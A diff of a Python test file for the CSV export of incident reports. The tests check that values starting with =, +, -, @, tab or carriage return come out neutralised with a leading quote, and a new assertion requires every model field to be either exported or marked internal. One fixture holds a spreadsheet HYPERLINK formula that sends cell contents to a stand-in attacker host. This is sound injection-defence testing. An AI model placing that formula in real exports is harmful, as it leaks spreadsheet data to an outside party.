@@ -50,7 +50,7 @@ def tricky_reports() -> list[Report]:
                     status_note="Проверено, ок", duplicate_of="KZ-000001", latitude=None, longitude=None,
                     precinct=None, subcategory=None),
         make_report(3, description='=HYPERLINK("http://evil.example/?x="&A1,"click")',
-                    place="+7 701 000 00 00", status_note="-1+1", escalated_to="@cec",
+                    place="+7 701 000 00 00", status_note="-1+1", duplicate_of="@cec",
                     external_ref="\tTab", external_date="\rCR", escalated_at="2024-03-18T10:00:00+00:00"),
     ]
 
@@ -79,7 +79,9 @@ def parse_csv(data: bytes) -> list[dict[str, str]]:
 
 def test_export_fields_are_the_public_ones_in_order():
     assert EXPORT_FIELDS[:4] == ("reference", "status", "submitted_at", "occurred_at")
-    assert EXPORT_FIELDS[-1] == "escalated_at" and len(EXPORT_FIELDS) == 21
+    assert EXPORT_FIELDS[-1] == "escalated_at" and len(EXPORT_FIELDS) == 22
+    # every field of the model is exported or named as internal, so a new field is not forgotten
+    assert set(EXPORT_FIELDS) | set(INTERNAL) == set(Report.model_fields)
     assert set(EXPORT_FIELDS) <= set(Report.model_fields)
     assert not set(EXPORT_FIELDS) & set(INTERNAL)
 
@@ -94,7 +96,7 @@ def test_csv_parses_back_to_the_same_values():
     assert rows[1]["description"].endswith("бәрін көрді\r\nтағы")
     assert rows[2]["description"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
     assert rows[2]["place"] == "'+7 701 000 00 00"
-    assert rows[2]["escalated_to"] == "'@cec"
+    assert rows[2]["duplicate_of"] == "'@cec"
     assert rows[2]["external_ref"] == "'\tTab" and rows[2]["external_date"] == "'\rCR"
 
 
